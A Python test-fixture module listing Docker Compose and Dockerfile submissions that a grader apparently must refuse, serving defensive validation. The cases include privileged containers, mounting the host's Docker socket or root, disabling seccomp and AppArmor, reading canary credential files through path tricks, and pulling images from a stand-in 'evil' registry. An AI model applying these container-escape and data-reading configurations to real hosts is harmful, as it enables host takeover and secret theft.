"""Submissions that are up to no good and have to be refused, each named by what it tries.

An attack aims at real things of the test's own: ``{canary}`` (a word that must not get out), ``{canary_file}`` and
``{canary_yaml}`` (files of the machine that hold it), ``{variable}`` (a variable of the grader's that does),
``{outside}`` (a folder of the machine in which ``marker`` must not appear), ``{port}`` (a listener on 127.0.0.1 that
must not hear anything) and ``{tag}`` (an image that must not come to be). ``{up}`` leads from anywhere to the root.
"""

from __future__ import annotations

import gzip
import io
import stat
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any


@dataclass(frozen=True)
class Aim:
    """What the attacks of one test are aimed at."""

    values: Mapping[str, str]

    def fill(self, text: str) -> str:
        """``text`` with the real targets; other braces are YAML's own."""
        for name, value in self.values.items():
            text = text.replace(f"{{{name}}}", value)
        return text


@dataclass(frozen=True)
class Attack:
    """A submission that must be refused.

    Attributes:
        name: what it tries.
        files: path -> content; in a text the targets are filled in.
        what: what the refusal names, ``services.web.privileged``.
        at: where, ``compose.yml:5``.
        error: instead, words of the message that says why it is not read at all; with ``what``, where Compose is too
            old to know the attribute and does not read it.
        links: path -> where a symbolic link leads to.
        archive: makes the submission, where it is no folder.
    """

    name: str
    files: Mapping[str, str | bytes] = field(default_factory=dict)
    what: str = ""
    at: str = "compose.yml:5"
    error: str = ""
    links: Mapping[str, str] = field(default_factory=dict)
    archive: Callable[[Path, Aim], Path] | None = None

    def make(self, folder: Path, aim: Aim) -> Path:
        """The submission, in ``folder``."""
        if self.archive:
            return self.archive(folder, aim)
        source = folder / "submission"
        for name, content in self.files.items():
            path = source / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content if isinstance(content, bytes) else aim.fill(content).encode())
        for name, target in self.links.items():
            path = source / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.symlink_to(aim.fill(target))
        return source


HONEST = """\
services:
  web:
    image: python:3.11-slim
    command: [sh, -c, "touch /outside/marker; exec python -m http.server --directory /srv 8000"]
"""
OTHER = "  other: {image: 'python:3.11-slim', command: [sleep, '60']}\n"


def _service(name: str, line: str, what: str, more: str = "", **other: Any) -> Attack:
    """One line (the fifth) of the service ``web``, and ``more`` behind it."""
    files = {"compose.yml": f"{HONEST}    {line}\n{more}", **other.pop("files", {})}
    return Attack(name, files, f"services.web.{what}", **other)


def _file(name: str, text: str, what: str = "", **other: Any) -> Attack:
    """A whole compose.yml, with further files."""
    return Attack(name, {"compose.yml": text, **other.pop("files", {})}, what, **other)


# --- attributes of a service ----------------------------------------------------------------------------

PRIVILEGES = [
    _service("gains-every-right-of-root", "privileged: true", "privileged"),
    _service("gains-every-right-in-quotes", "'privileged': 'true'", "privileged"),
    _service("gains-every-right-through-an-escape", '"privil\\x65ged": true', "privileged"),
    _service("gains-every-right-through-a-variable", "privileged: ${P:-true}", "privileged"),
    _service("gets-the-engines-socket", "use_api_socket: true", "use_api_socket", error="use_api_socket"),
    _service("runs-a-program-of-the-machine", "provider: {type: sh}", "provider", error="provider"),
    _service("runs-a-model-of-the-machine", "models: [m]", "models", error="models"),
    _service("reads-credentials", "credential_spec: {file: '{canary_file}'}", "credential_spec"),
    _service("chooses-another-runtime", "runtime: runsc", "runtime"),
    _service("leaves-its-control-group", "cgroup_parent: /", "cgroup_parent"),
    _service("opens-every-device", "device_cgroup_rules: ['a *:* rwm']", "device_cgroup_rules"),
    _service("reads-the-kernels-log", "devices: ['/dev/kmsg:/dev/kmsg']", "devices"),
    _service("takes-a-disk", "devices: [{source: /dev/vda, target: /dev/vda, permissions: rwm}]", "devices"),
    _service("chooses-its-isolation", "isolation: process", "isolation"),
    _service("changes-the-kernels-settings", "sysctls: {net.ipv4.ip_forward: '1'}", "sysctls"),
    _service("changes-the-kernels-settings-in-a-list", "sysctls: [kernel.shm_rmid_forced=1]", "sysctls"),
    _service("joins-the-group-of-the-engine", "group_add: [docker, '0']", "group_add"),
    _service("takes-more-disk", "storage_opt: {size: 900G}", "storage_opt"),
    _service("annotates-for-the-runtime", "annotations: {run.oci.keep_original_groups: '1'}", "annotations"),
    _service("administers-the-system", "cap_add: [SYS_ADMIN]", "cap_add"),
    _service("traces-processes", "cap_add: [cap_sys_ptrace]", "cap_add"),
    _service("has-every-capability", "cap_add: [NET_BIND_SERVICE, all]", "cap_add"),
    _service("forges-packets", "cap_add: [NET_RAW, NET_ADMIN]", "cap_add"),
    _service("turns-off-seccomp", "security_opt: ['seccomp:unconfined']", "security_opt"),
    _service("turns-off-apparmor", "security_opt: ['apparmor=unconfined']", "security_opt"),
    _service("turns-off-selinux", "security_opt: ['no-new-privileges:true', 'label:disable']", "security_opt"),
    _service("uncovers-system-paths", "security_opt: ['systempaths=unconfined']", "security_opt"),
    _service("allows-new-privileges", "security_opt: ['no-new-privileges:false']", "security_opt"),
    _service("takes-a-profile-of-the-machine", "security_opt: ['seccomp:{canary_file}']", "security_opt"),
    _service("takes-every-gpu", "gpus: all", "gpus"),
    _service(
        "reserves-a-gpu",
        "deploy: {resources: {reservations: {devices: [{capabilities: [gpu]}]}}}",
        "deploy.resources.reservations.devices",
    ),
    _service(
        "reserves-any-device-by-cdi",
        "deploy: {resources: {reservations: {devices: [{driver: cdi, capabilities: [gpu], device_ids: [a/b=c]}]}}}",
        "deploy.resources.reservations.devices",
    ),
    _service(
        "reserves-generic-resources",
        "deploy: {resources: {reservations: {generic_resources: [{discrete_resource_spec: {kind: a, value: 1}}]}}}",
        "deploy.resources.reservations.generic_resources",
    ),
    _service(
        "has-a-privileged-hook-after-the-start",
        "post_start: [{command: 'true', privileged: true}]",
        "post_start.0.privileged",
        error="post_start",
    ),
    _service(
        "has-a-privileged-hook-before-the-end",
        "pre_stop: [{command: 'true', privileged: true}]",
        "pre_stop.0.privileged",
        error="pre_stop",
    ),
    _service("has-a-hook-before-the-start", "pre_start: [{command: 'true'}]", "pre_start", error="pre_start"),
    _service("lifts-the-limits-of-real-time", "ulimits: {rtprio: 99}", "ulimits"),
    _service("works-in-a-descriptor-of-the-runtime", "working_dir: /proc/self/fd/8", "working_dir"),
    _service("works-in-a-descriptor-on-a-detour", "working_dir: /srv/..//proc/self/fd/8", "working_dir"),
    _service("works-in-a-descriptor-doubled", "working_dir: //./proc/self/fd/8", "working_dir"),
]

NAMESPACES = [
    _service("sees-the-machines-processes", "pid: host", "pid"),
    _service("sees-somebodys-processes", "pid: 'container:somebody'", "pid"),
    _service("sees-another-services-processes", "pid: 'service:other'", "pid", OTHER),
    _service("shares-the-machines-memory", "ipc: host", "ipc"),
    _service("offers-its-memory-to-others", "ipc: shareable", "ipc"),
    _service("renames-the-machine", "uts: host", "uts"),
    _service("sees-the-machines-control-groups", "cgroup: host", "cgroup"),
    _service("is-root-of-the-machine", "userns_mode: host", "userns_mode"),
    _service("joins-the-hosts-network", "network_mode: host", "network_mode"),
    _service("joins-the-hosts-network-in-quotes", 'network_mode: "ho\\\n    st"', "network_mode"),
    _service("joins-somebodys-network", "network_mode: 'container:somebody'", "network_mode"),
    _service("joins-the-engines-own-network", "network_mode: bridge", "network_mode"),
    _service("joins-a-network-by-its-name", "network_mode: somebodys_default", "network_mode"),
    _service("links-to-somebodys-container", "external_links: ['somebody:db']", "external_links"),
    _service("mounts-somebodys-volumes", "volumes_from: ['container:somebody:rw']", "volumes_from"),
    _service("mounts-another-services-volumes", "volumes_from: [other]", "volumes_from", OTHER),
]

MACHINE = [
    _service("runs-in-real-time", "cpu_rt_runtime: 95000", "cpu_rt_runtime"),
    _service("runs-in-real-time-by-period", "cpu_rt_period: 11000", "cpu_rt_period"),
    _service("pins-a-core", "cpuset: '0'", "cpuset"),
    Attack(
        "starts-thirty-containers-and-minus-twenty",
        {
            "compose.yml": HONEST
            + "    scale: -20\n"
            + "".join(f"  s{n}: {{image: 'python:3.11-slim', scale: 10}}\n" for n in range(3))
        },
        "services.web.scale",
    ),
    Attack(
        "takes-every-range-of-addresses",
        {
            "compose.yml": HONEST + f"    networks: [{', '.join(f'n{n}' for n in range(60))}]\n"
            "networks:\n" + "".join(f"  n{n}: {{}}\n" for n in range(60))
        },
        "networks",
        "compose.yml:6",
    ),
    _service(
        "takes-the-name-of-webs-container-as-an-alias",
        "networks: {default: {aliases: ['${COMPOSE_PROJECT_NAME}-web-1']}}",
        "networks.default.aliases",
    ),
    _service(
        "takes-the-name-of-webs-container-as-its-host-name", "hostname: '${COMPOSE_PROJECT_NAME}-web-1'", "hostname"
    ),
    _service("survives-when-memory-ends", "oom_kill_disable: true", "oom_kill_disable"),
    _service("has-others-killed-first", "oom_score_adj: -1000", "oom_score_adj"),
    _service("takes-all-of-the-disks-time", "blkio_config: {weight: 1000}", "blkio_config"),
    _service("starts-a-thousand-containers", "scale: 1000", "scale"),
    _service("starts-a-thousand-replicas", "deploy: {replicas: 1000}", "deploy.replicas"),
    _service("starts-one-on-every-node", "deploy: {mode: global}", "deploy.mode"),
    _service("restarts-as-nobody-knows", "restart: for-ever", "restart"),
    _service("opens-every-port", "ports: ['9000-9400:9000-9400']", "ports"),
    _service("takes-a-fixed-name", "container_name: somebody", "container_name"),
    _service("takes-a-label-of-composes", "labels: {com.docker.compose.project: somebody}", "labels"),
    _service("takes-the-graders-label", "labels: [ORG.compose-course.grading=a/1/1/b]", "labels"),
    _service("labels-its-deployment-as-composes", "deploy: {labels: {com.docker.compose.project: x}}", "deploy.labels"),
    Attack(
        "starts-thirty-containers-in-all",
        {"compose.yml": HONEST + "".join(f"  s{n}: {{image: 'python:3.11-slim', scale: 10}}\n" for n in range(3))},
        "services",
        "compose.yml:1",
    ),
]


def _image(name: str, image: str) -> Attack:
    text = HONEST.replace("image: python:3.11-slim", f"image: {image}")
    return Attack(name, {"compose.yml": text}, "services.web.image", "compose.yml:3")


DATA_OUT = [
    _service("sends-its-log-out", "logging: {driver: syslog, options: {syslog-address: 'tcp://127.0.0.1:{port}'}}",
             "logging.driver"),
    _service("sends-its-log-out-by-gelf", "logging: {driver: gelf, options: {gelf-address: 'tcp://127.0.0.1:{port}'}}",
             "logging.driver"),
    _service("asks-a-name-server-of-its-own", "dns: 127.0.0.1", "dns"),
    _service("asks-in-a-domain-of-its-own", "dns_search: example.test", "dns_search"),
    _service("sets-its-resolver", "dns_opt: [use-vc]", "dns_opt"),
    _service("finds-the-machine", "extra_hosts: ['machine:host-gateway']", "extra_hosts"),
    _service(
        "copies-a-file-of-the-machine-while-it-watches",
        "develop: {watch: [{path: '{canary_file}', action: sync, target: /stolen}]}",
        "develop.watch.0.path",
    ),
    _service("finds-the-machine-in-a-mapping", "extra_hosts: {machine: host-gateway}", "extra_hosts"),
    _image("pulls-from-a-registry", "127.0.0.1:{port}/evil:1"),
    _image("runs-an-image-of-the-course-by-digest", f"python:3.11-slim@sha256:{'0' * 64}"),
    _image("runs-whatever-is-there", "'{tag}'"),
]  # fmt: skip
# --- mounts ---------------------------------------------------------------------------------------------

MOUNTS = [
    _service(f"mounts-{name}", f"volumes: [{mount}]", "volumes.0.source")
    for name, mount in {
        "a-folder-of-the-machine": "'{outside}:/outside'",
        "a-folder-of-the-machine-in-long-syntax": "{type: bind, source: '{outside}', target: /outside}",
        "the-root-of-the-machine": "'/:/outside/root'",
        "the-folder-above": "'..:/outside'",
        "a-folder-by-way-of-its-own": "'./x/../../../..{outside}:/outside'",
        "a-folder-through-a-variable": "'${NOWHERE-{outside}}:/outside'",
        "the-engines-socket": "'/var/run/docker.sock:/var/run/docker.sock'",
        "the-engines-socket-on-a-detour": "'/run/../var/run/docker.sock:/s'",
        "the-engines-socket-with-two-slashes": "'//var/run/docker.sock:/s'",
        "the-engines-socket-through-proc": "{type: bind, source: /proc/1/root/run/docker.sock, target: /s}",
        "the-engines-socket-from-above": "'{up}/var/run/docker.sock:/s'",
        "the-machines-memory": "'/proc/kcore:/outside:ro'",
        "a-folder-with-a-nul": '{type: bind, source: "./a\\0b", target: /x}',
        "a-folder-below-a-file": "'./answer.txt/x:/x'",
        "a-folder-of-six-thousand-letters": f"'./{'a/' * 3000}:/x'",
        "a-folder-of-three-hundred-letters": f"'./{'a' * 300}:/x'",
    }.items()
] + [
    _service("mounts-a-folder-through-a-required-variable", "volumes: ['${WHERE:?}:/outside']", "volumes.0.source",
             files={".env": "WHERE={outside}\n"}),
    _service("spreads-its-mounts", "volumes: [{type: bind, source: ., target: /x, bind: {propagation: rshared}}]",
             "volumes.0.bind.propagation"),
    _service("spreads-its-mounts-in-short-syntax", "volumes: ['./x:/x:rshared']", "volumes.0.bind.propagation"),
    _service("mounts-an-image", "volumes: [{type: image, source: 'python:3.11-slim', target: /x}]", "volumes.0",
             error="type"),
    _service("mounts-a-named-pipe", "volumes: [{type: npipe, source: '\\\\.\\pipe\\docker_engine', target: /x}]",
             "volumes.0"),
    _service("mounts-a-volume-of-the-cluster", "volumes: [{type: cluster, source: x, target: /x}]", "volumes.0"),
    _service("labels-a-volume-as-composes",
             "volumes: [{type: volume, target: /x, volume: {labels: {com.docker.compose.project: x}}}]",
             "volumes.0.volume.labels", error="labels"),
    _service("swaps-a-folder-for-a-link", "volumes: ['.:/all', './data:/data']", "volumes"),
    _file("swaps-a-secret-for-a-link",
          HONEST + "    volumes: ['./conf:/conf']\n    secrets: [k]\nsecrets: {k: {file: ./conf/key}}\n",
          "services.web.volumes", files={"conf/key": "x"}),
    _file("swaps-a-build-context-for-a-link",
          HONEST + "    volumes: ['.:/all']\n  b: {build: ./b}\n", "services.web.volumes",
          files={"b/Dockerfile": "FROM python:3.11-slim\n"}),
]  # fmt: skip

# --- networks, volumes, secrets, configs -------------------------------------------------------------------

IN_NETWORK = [
    _service(f"{name}-in-its-network", f"networks: {{n: {{{line}}}}}", f"networks.n.{line.split(':')[0]}",
             "networks: {n: }\n", error=line.split(":")[0])
    for name, line in {
        "takes-an-address": "ipv4_address: 10.99.0.2",
        "takes-a-long-address": "ipv6_address: 'fd00::2'",
        "takes-a-link-local-address": "link_local_ips: [169.254.169.254]",
        "takes-a-hardware-address": "mac_address: '02:42:ac:11:00:02'",
        "sets-the-driver": "driver_opts: {com.docker.network.endpoint.sysctls: net.ipv4.conf.IFNAME.forwarding=1}",
        "names-its-interface": "interface_name: eth99",
    }.items()
] + [_service("takes-a-hardware-address", "mac_address: '02:42:ac:11:00:02'", "mac_address")]  # fmt: skip

_USES = {"networks": "networks: [nn]", "volumes": "volumes: ['nn:/v']", "secrets": "secrets: [nn]",
         "configs": "configs: [nn]"}  # fmt: skip


def _section(name: str, section: str, entry: str, key: str) -> Attack:
    """An entry of one of the other sections, in line 6."""
    text = f"{HONEST}    {_USES[section]}\n{section}: {{nn: {{{entry}}}}}\n"
    return Attack(name, {"compose.yml": text}, f"{section}.nn.{key}", "compose.yml:6", error=f"{section}.nn")


SECTIONS = [
    _section("joins-a-network-of-the-machine", "networks", "name: bridge", "name"),
    _section("joins-somebodys-network-as-external", "networks", "external: true", "external"),
    _section("joins-somebodys-network-in-old-syntax", "networks", "external: {name: somebody}", "external"),
    _section("opens-its-network-to-others", "networks", "attachable: true", "attachable"),
    _section("has-the-hosts-network-as-its-own", "networks", "driver: host", "driver"),
    _section("joins-the-machines-cable", "networks", "driver: macvlan", "driver"),
    _section("names-its-bridge", "networks", "driver_opts: {com.docker.network.bridge.name: docker0}", "driver_opts"),
    _section("takes-a-range-of-addresses", "networks", "ipam: {config: [{subnet: 10.0.0.0/8}]}", "ipam"),
    _section("takes-addresses-from-a-driver", "networks", "ipam: {driver: dhcp}", "ipam"),
    _section("labels-its-network-as-composes", "networks", "labels: {com.docker.compose.project: x}", "labels"),
    _section("mounts-and-deletes-somebodys-volume", "volumes", "name: somebodys-data", "name"),
    _section("mounts-somebodys-volume", "volumes", "external: true", "external"),
    _section("has-a-volume-of-a-plugin", "volumes", "driver: vieux/sshfs", "driver"),
    _section("has-a-volume-that-is-the-machine", "volumes",
             "driver_opts: {type: none, o: bind, device: '{outside}'}", "driver_opts"),
    _section("has-a-volume-that-is-a-disk", "volumes", "driver: local, driver_opts: {type: ext4, device: /dev/vda1}",
             "driver_opts"),
    _section("has-a-volume-on-a-server", "volumes",
             "driver_opts: {type: nfs, o: 'addr=127.0.0.1,port={port}', device: ':/'}", "driver_opts"),
    _section("labels-its-volume-as-the-graders", "volumes", "labels: {org.compose-course.grading: a/1/1/b}", "labels"),
] + [
    _section(f"{name}-as-a-{section[:-1]}", section, entry, key)
    for section in ("secrets", "configs")
    for name, entry, key in [
        ("reads-a-file-of-the-machine", "file: '{canary_file}'", "file"),
        ("reads-a-file-from-above", "file: './{up}{canary_file}'", "file"),
        ("reads-a-file-with-a-nul", 'file: "a\\0b"', "file"),
        ("reads-a-variable-of-the-machine", "environment: '{variable}'", "environment"),
        ("takes-somebodys", "external: true", "external"),
        ("names-somebodys", "file: ./answer.txt, name: somebodys", "name"),
        ("asks-a-template-driver", "file: ./answer.txt, template_driver: golang", "template_driver"),
        ("labels-it-as-composes", "file: ./answer.txt, labels: {com.docker.compose.project: x}", "labels"),
    ]
] + [
    _section("asks-a-driver-for-a-secret", "secrets", "file: ./answer.txt, driver: vault", "driver"),
    _section("sets-the-driver-of-a-secret", "secrets", "file: ./answer.txt, driver_opts: {a: b}", "driver_opts"),
]  # fmt: skip

# --- builds ---------------------------------------------------------------------------------------------

FROM = "FROM python:3.11-slim\n"


def _build(name: str, line: str, what: str, text: str = FROM, at: str = "compose.yml:6", error: str = "") -> Attack:
    """One line (the sixth) of the ``build`` of web."""
    at = "compose.yml:5" if what == ".dockerfile" and at == "compose.yml:6" else at
    compose = f"{HONEST}    build:\n      {line}\n" + ("" if line.startswith("context:") else "      context: .\n")
    compose += "secrets: {k: {file: ./answer.txt}}\n" if line.startswith("secrets:") else ""
    return Attack(name, {"compose.yml": compose, "Dockerfile": text}, f"services.web.build{what}", at, error)


BUILDS = [
    _build("builds-from-a-folder-of-the-machine", "context: '{outside}'", ".context"),
    _build("builds-from-above", "context: ../..", ".context"),
    _build("builds-from-a-folder-with-a-nul", 'context: "a\\0b"', ".context"),
    _build("builds-by-a-file-with-a-nul", 'dockerfile: "a\\0b"', ".dockerfile"),
    _build("builds-by-a-file-of-three-hundred-letters", f"dockerfile: {'a' * 300}", ".dockerfile"),
    _build("builds-from-a-folder-of-six-thousand-letters", f"context: ./{'a/' * 3000}", ".context"),
    _build("builds-by-a-file-through-proc", "dockerfile: /proc/1/root/x", ".dockerfile"),
    _build("builds-from-a-repository", "context: 'git://127.0.0.1:{port}/x.git#main:.'", ".context"),
    _build("builds-from-an-address", "context: 'http://127.0.0.1:{port}/x.tar'", ".context"),
    _build("builds-from-a-repository-by-ssh", "context: 'git@127.0.0.1:x.git'", ".context"),
    _build("builds-by-a-file-of-the-machine", "dockerfile: '{canary_file}'", ".dockerfile"),
    _build("builds-by-a-file-from-above", "dockerfile: '{up}{canary_file}'", ".dockerfile"),
    _build("takes-a-folder-of-the-machine-along", "additional_contexts: {m: '{outside}'}", ".additional_contexts.m"),
    _build("takes-an-image-along", "additional_contexts: ['m=docker-image://127.0.0.1:{port}/evil']",
           ".additional_contexts.m"),
    _build("takes-a-layout-along", "additional_contexts: {m: 'oci-layout://{outside}'}", ".additional_contexts.m"),
    _build("takes-a-repository-along", "additional_contexts: {m: 'http://127.0.0.1:{port}/x.git'}",
           ".additional_contexts.m"),
    _build("lends-its-keys-to-the-build", "ssh: [default]", ".ssh"),
    _build("gives-the-build-a-secret", "secrets: [k]", ".secrets"),
    _build("entitles-the-build", "entitlements: [security.insecure]", ".entitlements", error="entitlements"),
    _build("builds-with-every-right", "privileged: true", ".privileged"),
    _build("builds-in-an-isolation-of-its-choice", "isolation: process", ".isolation"),
    _build("builds-in-the-hosts-network", "network: host", ".network"),
    _build("finds-the-machine-in-the-build", "extra_hosts: ['machine:host-gateway']", ".extra_hosts"),
    _build("takes-a-cache-from-elsewhere", "cache_from: ['127.0.0.1:{port}/cache']", ".cache_from"),
    _build("writes-a-cache-to-the-machine", "cache_to: ['type=local,dest={outside}']", ".cache_to"),
    _build("overwrites-a-tag-with-build-tags", "tags: ['{tag}']", ".tags"),
    _build("labels-the-image-as-composes", "labels: {com.docker.compose.project: x}", ".labels"),
    _build("lifts-limits-of-the-build", "ulimits: {rtprio: 99}", ".ulimits"),
    _build("names-a-frontend-as-an-argument", "args: {BUILDKIT_SYNTAX: '127.0.0.1:{port}/evil'}",
           ": build argument BUILDKIT_SYNTAX", at="Dockerfile:1"),
    _build("sets-the-builder-as-an-argument", "args: {BUILDKIT_CONTEXT_KEEP_GIT_DIR: '1'}",
           ": build argument BUILDKIT_CONTEXT_KEEP_GIT_DIR", at="Dockerfile:1"),
    _build("fetches-its-date", "args: {SOURCE_DATE_EPOCH: 'http://127.0.0.1:{port}/'}", ": SOURCE_DATE_EPOCH",
           at="Dockerfile:1"),
    _build("builds-from-an-image-by-an-argument", "args: {BASE: '127.0.0.1:{port}/evil:1'}",
           ": FROM 127.0.0.1:{port}/evil:1", "ARG BASE=python:3.11-slim\nFROM $BASE\n", at="Dockerfile:2"),
]  # fmt: skip


def _dockerfile(name: str, text: str | bytes, what: str, line: int = 2) -> Attack:
    compose = "services:\n  web:\n    build: .\n"
    return Attack(name, {"compose.yml": compose, "Dockerfile": text}, f"services.web.build: {what}",
                  f"Dockerfile:{line}")  # fmt: skip


DOCKERFILES = [
    _dockerfile("names-a-frontend", "# syntax=127.0.0.1:{port}/evil:1\n" + FROM, "# syntax=127.0.0.1:{port}/evil:1", 1),
    _dockerfile("names-a-frontend-behind-a-check", "# check=skip=all\n#  SynTax = 127.0.0.1:{port}/evil\n" + FROM,
                "# syntax=127.0.0.1:{port}/evil"),
    _dockerfile("names-a-frontend-behind-a-shebang", "#!/usr/bin/env x\n# syntax=127.0.0.1:{port}/e\n" + FROM,
                "# syntax=127.0.0.1:{port}/e"),
    _dockerfile("names-a-frontend-with-slashes", "// syntax=127.0.0.1:{port}/evil\n" + FROM,
                "// syntax=127.0.0.1:{port}/evil", 1),
    _dockerfile("names-a-frontend-in-json", '{"syntax": "127.0.0.1:{port}/evil"}\n', "a Dockerfile in JSON", 1),
    _dockerfile("builds-from-a-registry", "FROM 127.0.0.1:{port}/evil:1\n", "FROM 127.0.0.1:{port}/evil:1", 1),
    _dockerfile("builds-from-an-unknown-variable", FROM + "FROM ${NOBODY_KNOWS}\n", "FROM ${NOBODY_KNOWS}"),
    _dockerfile("copies-from-a-registry", FROM + "COPY --from=127.0.0.1:{port}/evil / /\n",
                "COPY --from=127.0.0.1:{port}/evil"),
    _dockerfile("mounts-from-a-registry", FROM + "RUN --mount=from=127.0.0.1:{port}/evil,target=/m true\n",
                "RUN --mount=from=127.0.0.1:{port}/evil,target=/m"),
    _dockerfile("fetches-while-it-is-built", FROM + "ADD http://127.0.0.1:{port}/x /\n",
                "ADD http://127.0.0.1:{port}/x"),
    _dockerfile("fetches-from-a-repository", FROM + "ADD git@127.0.0.1:x.git /\n", "ADD git@127.0.0.1:x.git"),
    _dockerfile("fetches-through-a-variable", FROM + "ENV A=http://127.0.0.1\nADD $A:{port}/x /\n",
                "ADD http://127.0.0.1:{port}/x", 3),
    _dockerfile("fetches-what-an-image-says", FROM + "ADD $SOMETHING /\n", "ADD $SOMETHING"),
    _dockerfile("keeps-a-fetched-history", FROM + "ADD --keep-git-dir=true x.git /\n", "ADD --keep-git-dir=true"),
    _dockerfile("runs-in-the-hosts-network", FROM + "RUN --network=host true\n", "RUN --network=host"),
    _dockerfile("runs-in-the-hosts-network-on-two-lines", FROM + "RUN \\\n  --network=host true\n",
                "RUN --network=host", 3),
    _dockerfile("runs-in-the-hosts-network-in-quotes", FROM + 'run --net"work=host" true\n', "RUN --network=host"),
    _dockerfile("runs-with-every-right", FROM + "RUN --security=insecure true\n", "RUN --security=insecure"),
    _dockerfile("runs-with-a-device", FROM + "RUN --device=vendor.test/d=all true\n", "RUN --device=vendor.test/d=all"),
    _dockerfile("runs-with-keys", FROM + "RUN --mount=type=ssh true\n", "RUN --mount=type=ssh"),
    _dockerfile("runs-with-a-secret", FROM + "RUN --mount=type=secret,id=k true\n", "RUN --mount=type=secret,id=k"),
    _dockerfile("runs-with-an-unknown-mount", FROM + "RUN --mount=type=host,target=/m true\n",
                "RUN --mount=type=host,target=/m"),
    _dockerfile("runs-with-an-unknown-flag", FROM + "RUN --new=1 true\n", "RUN --new=1"),
    _dockerfile("runs-an-unknown-instruction", FROM + "HOSTRUN true\n", "HOSTRUN"),
    _dockerfile("puts-a-privileged-run-off", FROM + "ONBUILD RUN --security=insecure true\n",
                "RUN --security=insecure"),
    _dockerfile("hides-behind-a-heredoc", FROM + "RUN <<'A B'\nA B\nADD http://127.0.0.1:{port}/ /\n", "<<'A B'"),
    _dockerfile("hides-behind-another-escape", "# escape=`\n" + FROM + "RUN true `\n--x\nRUN --network=host true\n",
                "RUN --network=host", 5),
    _dockerfile("works-in-a-descriptor-of-the-runtime-by-its-image", FROM + "WORKDIR /proc/self/fd/8\n",
                "WORKDIR /proc/self/fd/8"),
    _dockerfile("is-no-text", b"FROM python:3.11-slim\nRUN \xff\n", "Dockerfile", 1),
    _dockerfile("is-too-long-to-be-read", FROM + "RUN true\n" * 9000, "Dockerfile", 1),
    Attack("builds-by-a-file-in-the-file",
           {"compose.yml": "services:\n  web:\n    build:\n      context: .\n      dockerfile_inline: |\n"
                           "        FROM python:3.11-slim\n        RUN --network=host true\n"},
           "services.web.build: RUN --network=host"),
    Attack("builds-by-a-file-that-is-not-there", {"compose.yml": "services:\n  web:\n    build: .\n"},
           "services.web.build.dockerfile", "compose.yml:3"),
]  # fmt: skip

# --- what Compose would read of the machine ------------------------------------------------------------------

READS = [
    _service(f"reads-the-machine-through-{name}", line, what)
    for name, line, what in [
        ("env-file", "env_file: '{canary_file}'", "env_file"),
        ("env-file-from-above", "env_file: './{up}{canary_file}'", "env_file"),
        ("env-file-in-a-list", "env_file: [./ok.env, '{canary_file}']", "env_file"),
        ("env-file-in-long-syntax", "env_file: [{path: '{canary_file}', required: false}]", "env_file"),
        ("env-file-in-a-tagged-word", "env_file: !!str '{canary_file}'", "env_file"),
        ("env-file-in-an-override-tag", "env_file: !override ['{canary_file}']", "env_file"),
        ("env-file-in-quotes-with-escapes", '"env\\x5ffile": "{canary_file}"', "env_file"),
        ("env-file-in-escaped-dots", 'env_file: "\\x2e\\x2e/{up}{canary_file}"', "env_file"),
        ("env-file-through-a-merge", "<<: {env_file: '{canary_file}'}", "env_file"),
        ("env-file-through-merges", "<<: [{init: true}, {env_file: ['{canary_file}']}]", "env_file"),
        ("env-file-through-a-variable", "env_file: '${NOWHERE:-{canary_file}}'", "env_file"),
        ("env-file-of-three-hundred-letters", f"env_file: ./{'a' * 300}", "env_file"),
        ("env-file-of-six-thousand-letters", f"env_file: ./{'a/' * 3000}a", "env_file"),
        ("extends-of-three-hundred-letters", f"extends: {{file: ./{'a' * 300}, service: web}}", "extends.file"),
        ("env-file-in-the-home-folder", "env_file: ~/.bashrc", "env_file"),
        ("label-file", "label_file: '{canary_file}'", "label_file"),
        ("label-file-in-a-list", "label_file: ['{canary_file}']", "label_file"),
        ("extends", "extends: {file: '{canary_yaml}', service: web}", "extends.file"),
        ("extends-from-above", "extends: {service: web, file: '{up}{canary_yaml}'}", "extends.file"),
        ("extends-through-a-merge", "extends: {<<: {file: '{canary_yaml}'}, service: web}", "extends.file"),
        ("extends-of-a-repository", "extends: {file: 'git://127.0.0.1:{port}/x.git', service: web}", "extends.file"),
        ("extends-of-a-site", "extends: {file: 'https://127.0.0.1:{port}/x.git', service: web}", "extends.file"),
        ("extends-of-an-artifact", "extends: {file: 'oci://127.0.0.1:{port}/x:1', service: web}", "extends.file"),
        ("environment", "environment: ['{variable}']", "environment"),
        ("environment-without-a-value", "environment: {'{variable}': , A: '${{variable}:-nothing}'}", "environment"),
    ]
] + [
    _service("reads-the-machine-through-a-complex-key", "? env_file\n    : '{canary_file}'", "env_file",
             at="compose.yml:6"),
    _service("reads-the-machine-through-a-hook", "post_start: [{command: x, environment: ['{variable}']}]",
             "post_start.0.environment", error="post_start"),
    _service("reads-the-machine-through-a-key-of-keys", "{env_file: '{canary_file}'}: x", "",
             error="a key that is not a word"),
]  # fmt: skip

INCLUDES = [
    _file(f"includes-{name}", HONEST + line + "\n", "include", at=at)
    for name, line, at in [
        ("a-file-of-the-machine", "include: ['{canary_yaml}']", "compose.yml:5"),
        ("a-file-from-above", "include: ['{up}{canary_yaml}']", "compose.yml:5"),
        ("a-file-in-long-syntax", "include:\n  - path: '{canary_yaml}'\n    env_file: '{canary_file}'",
         "compose.yml:5"),
        ("a-folder-of-the-machine", "include: [{path: ./x.yml, project_directory: /}]", "compose.yml:5"),
        ("through-a-merge", "<<: {include: ['{canary_yaml}']}", "compose.yml:5"),
        ("through-an-anchor", "x-a: &a\n  include: ['{canary_yaml}']\n<<: [*a]", "compose.yml:6"),
        ("in-quotes-with-escapes", '"incl\\u0075de": ["{canary_yaml}"]', "compose.yml:5"),
        ("with-a-tag", "!!str include: ['{canary_yaml}']", "compose.yml:5"),
        ("with-an-anchored-key", "&k include: ['{canary_yaml}']", "compose.yml:5"),
        ("as-a-complex-key", "? include\n: ['{canary_yaml}']", "compose.yml:5"),
        ("with-a-reset-tag", "include: !reset ['{canary_yaml}']", "compose.yml:5"),
        ("a-repository", "include: ['https://127.0.0.1:{port}/x.git']", "compose.yml:5"),
        ("a-repository-by-git", "include: ['git://127.0.0.1:{port}/x.git']", "compose.yml:5"),
        ("an-artifact", "include: ['oci://127.0.0.1:{port}/x:1']", "compose.yml:5"),
    ]
]  # fmt: skip

# --- one file behind another -----------------------------------------------------------------------------------

_READS = "    env_file: '{canary_file}'\n"
